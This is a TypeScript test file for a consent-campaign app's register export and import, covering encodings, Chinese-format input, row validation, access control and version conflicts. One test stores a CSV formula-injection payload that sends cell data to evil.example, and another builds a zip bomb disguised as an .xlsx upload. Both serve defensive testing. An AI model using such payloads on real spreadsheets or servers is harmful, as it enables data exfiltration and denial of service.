import { and, count, eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addUser } from '../../server/auth/manage-users.ts';
import { consentEvents, flats, stairwells } from '../support/tables.ts';
import { sessionCookieFor } from '../support/sign-in.ts';
import { startTestServer, type TestServer } from '../support/test-server.ts';
import { first } from '../../server/db/database.ts';

let server: TestServer;
let staff: string;
let viewer: string;
beforeAll(async () => {
  server = await startTestServer();
  staff = await sessionCookieFor(server.url, 'li', await addUser(server.db, 'li', 'planner'));
  viewer = await sessionCookieFor(server.url, 'guest', await addUser(server.db, 'guest', 'viewer'));
});
afterAll(() => server.close());

const upload = async (bytes: Uint8Array, name: string, dryRun: boolean) => {
  const res = await fetch(`${server.url}/api/estates/1/register${dryRun ? '?dryRun=1' : ''}`, {
    method: 'POST',
    headers: { cookie: staff, 'x-file-name': encodeURIComponent(name), 'content-type': name.endsWith('.xlsx') ? 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' : 'text/csv' },
    body: Buffer.from(bytes),
  });
  return { status: res.status, body: (await res.json()) as { ok: boolean; encoding: string; problems?: { zh: string; en: string }[]; warnings?: { zh: string; en: string }[]; changes?: { doorNumber: string; room: string; fields: string[] }[]; unchanged?: number } };
};
const eventCount = async () => (await first(server.db.select({ n: count() }).from(consentEvents)))!.n;
const statusOf = async (door: string, room: string) =>
  (await first(server.db.select({ status: flats.status }).from(flats).innerJoin(stairwells, eq(stairwells.id, flats.stairwellId)).where(and(eq(stairwells.doorNumber, door), eq(flats.room, room)))))!.status;

describe('the register in and out', () => {
  it('exports XLSX that imports back with no changes', async () => {
    const res = await fetch(`${server.url}/api/estates/1/register.xlsx`, { headers: { cookie: staff } });
    expect(res.status).toBe(200);
    const bytes = new Uint8Array(await res.arrayBuffer());
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    expect(book.worksheets[0]!.getRow(1).getCell(1).value).toBe('门牌号');
    const dry = await upload(bytes, '名册.xlsx', true);
    expect(dry.body).toMatchObject({ ok: true, encoding: 'xlsx', changes: [], unchanged: 1920 });
    // Applied, it writes nothing: every flat keeps its version, so no canvasser's open form goes stale.
    const versions = () => server.sql('SELECT id, version FROM flats ORDER BY id');
    const before = await versions();
    expect((await upload(bytes, '名册.xlsx', false)).body).toMatchObject({ ok: true, applied: true, changes: [] });
    expect(await versions()).toEqual(before);
  });

  it('reads a GBK CSV as Chinese Excel writes it; the dry run shows the change and writes nothing', async () => {
    const res = await fetch(`${server.url}/api/estates/1/register.csv?encoding=gbk`, { headers: { cookie: staff } });
    const text = iconv.decode(Buffer.from(await res.arrayBuffer()), 'gbk');
    expect(text.split('\n')[0]).toMatch(/^门牌号,楼层,室号,面积/);
    const lines = text.split('\r\n');
    // Statuses in the language of the screen: 未走访, 已签字同意.
    const target = lines.findIndex((l) => /,未走访,/.test(l));
    const [door, , room] = lines[target]!.split(',');
    lines[target] = lines[target]!.replace(',未走访,', ',已签字同意,');
    const gbk = iconv.encode(lines.join('\r\n'), 'gbk');
    const before = await eventCount();
    const dry = await upload(gbk, '名册.csv', true);
    expect(dry.body.encoding).toBe('gbk');
    expect(dry.body.changes).toEqual([expect.objectContaining({ doorNumber: door, room, fields: ['status'] })]);
    expect(await statusOf(door!, room!)).toBe('unvisited');
    expect(await eventCount()).toBe(before);
    const applied = await upload(gbk, '名册.csv', false);
    expect(applied.body.ok).toBe(true);
    expect(await statusOf(door!, room!)).toBe('signed');
    expect(await eventCount()).toBe(before + 1);
  });

  it('reads the register as a committee types it: 已签字 for signed, rooms as 3-301, floors as 三楼, areas with ㎡, full-width digits', async () => {
    const res = await fetch(`${server.url}/api/estates/1/register.csv`, { headers: { cookie: staff } });
    const lines = (await res.text()).split('\r\n');
    const header = lines[0]!.replace(/^\uFEFF/, '').split(',');
    const col = (name: string) => header.indexOf(name);
    const target = lines.findIndex((l, i) => i > 0 && l.split(',')[col('状态')] === '未走访');
    const cells = lines[target]!.split(',');
    const [door, floor, room, area] = [cells[col('门牌号')]!, Number(cells[col('楼层')]), cells[col('室号')]!, cells[col('面积')]!];
    cells[col('状态')] = '已签字';
    cells[col('室号')] = `${floor}-${room}`;
    cells[col('楼层')] = ['一', '二', '三', '四', '五', '六'][floor - 1]! + '楼';
    cells[col('面积')] = `${area.replace(/\d/g, (d) => String.fromCharCode(0xff10 + Number(d)))}㎡`;
    lines[target] = cells.join(',');
    const dry = await upload(new TextEncoder().encode(lines.join('\r\n')), '名册.csv', true);
    // The same flat, only its status changed: nothing else reads as a change.
    expect(dry.body).toMatchObject({ ok: true, changes: [expect.objectContaining({ doorNumber: door, room, fields: ['status'] })], unchanged: 1919 });
  });

  it('refuses floor 9 of a six-storey building and room 101 written on floor 3, naming the rows, in Chinese too', async () => {
    const res = await fetch(`${server.url}/api/estates/1/register.csv`, { headers: { cookie: staff } });
    const lines = (await res.text()).split('\r\n');
    const header = lines[0]!.replace(/^\uFEFF/, '').split(',');
    const [floorAt, roomAt] = [header.indexOf('楼层'), header.indexOf('室号')];
    const high = lines[1]!.split(',');
    high[floorAt] = '9';
    high[roomAt] = '901';
    lines[1] = high.join(',');
    const slip = lines[2]!.split(',');
    const door = slip[header.indexOf('门牌号')]!;
    slip[floorAt] = '3';
    slip[roomAt] = '101';
    lines[2] = slip.join(',');
    const before = await eventCount();
    const dry = await upload(new TextEncoder().encode(lines.join('\r\n')), '名册.csv', true);
    expect(dry.body.ok).toBe(false);
    const high9 = dry.body.problems!.find((p) => p.en.includes('no floor 9'));
    expect(high9?.zh).toMatch(/^「名册\.csv」第 2 行「楼层」列是 9：.+ 所在楼只有 6 层，没有第 9 层$/);
    expect(high9?.en).toMatch(/^sheet “名册\.csv”, row 2, column “楼层” is 9: .+ is in a building of 6 floors, so there is no floor 9$/);
    expect(dry.body.problems).toContainEqual({
      zh: '「名册.csv」第 3 行「室号」列是 101：101 室应在 1 层，本行写的是 3 层',
      en: 'sheet “名册.csv”, row 3, column “室号” is 101: room 101 is on floor 1, but the row says floor 3',
    });
    expect(door).toMatch(/号$/);
    expect(await eventCount()).toBe(before);
  });

  it('reports every bad row with row number and column, and changes nothing', async () => {
    const res = await fetch(`${server.url}/api/estates/1/register.csv`, { headers: { cookie: staff } });
    const lines = (await res.text()).split('\r\n');
    lines[2] = lines[2]!.replace(/^长风二村 1号,/, '长风二村 999号,');
    lines[5] = lines[5]!.replace(/,(\d+\.\d+|),/, ',很大,');
    const firstStatus = await statusOf('长风二村 1号', '101');
    lines[1] = lines[1]!.replace(/,(unvisited|undecided|intent|signed|abstain|opposed|unreachable),/, ',opposed,');
    const before = await eventCount();
    const bad = await upload(Buffer.from(lines.join('\r\n')), 'register.csv', false);
    expect(bad.status).toBe(422);
    expect(bad.body.problems).toContainEqual({
      zh: '「register.csv」第 6 行「面积」列是「很大」：应为面积（平方米），如 45.67 或 45.67㎡',
      en: 'sheet “register.csv”, row 6, column “面积” is “很大”: expected an area in m² such as 45.67',
    });
    expect(await eventCount()).toBe(before);
    expect(await statusOf('长风二村 1号', '101')).toBe(firstStatus);
    // With the cells fixed, the unknown door is still named by its row.
    const rest = await upload(Buffer.from([lines[0], lines[2]].join('\r\n')), 'register.csv', false);
    expect(rest.body.problems).toEqual([
      { zh: '「register.csv」第 2 行「门牌号」列：本小区没有门洞「长风二村 999号」', en: 'sheet “register.csv”, row 2, column “门牌号”: no stairwell 长风二村 999号 in this estate' },
    ]);
    expect(await eventCount()).toBe(before);
  });

  it('keeps the register from viewers and strangers', async () => {
    expect((await fetch(`${server.url}/api/estates/1/register.xlsx`, { headers: { cookie: viewer } })).status).toBe(403);
    expect((await fetch(`${server.url}/api/estates/1/register.xlsx`)).status).toBe(401);
  });
});

describe('a register re-imported after the campaign moved on', () => {
  it('refuses a row changed since the file was exported, naming it, and writes nothing', async () => {
    const exported = await (await fetch(`${server.url}/api/estates/1/register.csv`, { headers: { cookie: staff } })).text();
    const lines = exported.split('\r\n');
    const header = lines[0]!.replace(/^\uFEFF/, '').split(',');
    const col = (name: string) => header.indexOf(name);
    const target = lines.findIndex((l, i) => i > 0 && l.split(',')[col('状态')] === '未走访');
    const cells = lines[target]!.split(',');
    const door = cells[col('门牌号')]!;
    const room = cells[col('室号')]!;
    // Meanwhile a canvasser records a signature on that flat.
    const flat = (await first(server.db.select().from(flats).innerJoin(stairwells, eq(stairwells.id, flats.stairwellId)).where(and(eq(stairwells.doorNumber, door), eq(flats.room, room)))))!.flats;
    (await server.db.update(flats).set({ status: 'signed', version: flat.version + 1 }).where(eq(flats.id, flat.id)));
    // The committee edits the morning's file: a new note on that row.
    cells[col('备注')] = '电话确认过';
    lines[target] = cells.join(',');
    const before = await eventCount();
    const res = await upload(Buffer.from(lines.join('\r\n')), 'register.csv', false);
    expect(res.status).toBe(422);
    expect(res.body.problems!.map((p) => p.en).join('\n')).toMatch(
      new RegExp(`sheet “register.csv”, row ${target + 1}: ${door} ${room} changed since this file was exported \\(version ${flat.version} in the file, ${flat.version + 1} now; now signed\\)`),
    );
    expect(res.body.problems![0]!.zh).toContain('在导出此文件后已有新记录');
    expect(await statusOf(door, room)).toBe('signed');
    expect(await eventCount()).toBe(before);
    // Cleared 版本 cell: the committee means to overwrite.
    cells[col('版本')] = '';
    cells[col('状态')] = 'signed';
    lines[target] = cells.join(',');
    expect((await upload(Buffer.from(lines.join('\r\n')), 'register.csv', false)).body).toMatchObject({ ok: true, applied: true });
  });

  it('writes a note that looks like a formula as text, and reads it back unchanged', async () => {
    const attack = '=HYPERLINK("http://evil.example/?"&F2&G2,"点此")';
    const f = (await first(server.db.select().from(flats)))!;
    (await server.db.update(flats).set({ note: attack }).where(eq(flats.id, f.id)));
    const csv = await (await fetch(`${server.url}/api/estates/1/register.csv`, { headers: { cookie: staff } })).text();
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(csv).toContain(`'=HYPERLINK`);
    const dry = await upload(Buffer.from(csv), 'register.csv', true);
    expect(dry.body).toMatchObject({ ok: true, changes: [] });
  });

  it('refuses a zip bomb named .xlsx and a text file named .xlsx with a sentence, not a 500', async () => {
    const { zipSync } = await import('fflate');
    const bomb = zipSync({ 'xl/worksheets/sheet1.xml': new Uint8Array(150 * 1024 * 1024) }, { level: 9 });
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const big = await upload(bomb, '名册.xlsx', true);
    expect(big.status).toBe(422);
    expect(big.body.problems![0]!.en).toMatch(/expands to 150 MB/);
    expect(big.body.problems![0]!.zh).toMatch(/解压后有 150 MB/);
    const text = await upload(Buffer.from('门牌号,楼层\n'), '名册.xlsx', true);
    expect(text.status).toBe(422);
    expect(text.body.problems![0]!.en).toMatch(/is not a zip archive \(an XLSX/);
    expect(server.logs).toEqual([]);
    expect((await fetch(`${server.url}/healthz`)).status).toBe(200);
  });
});
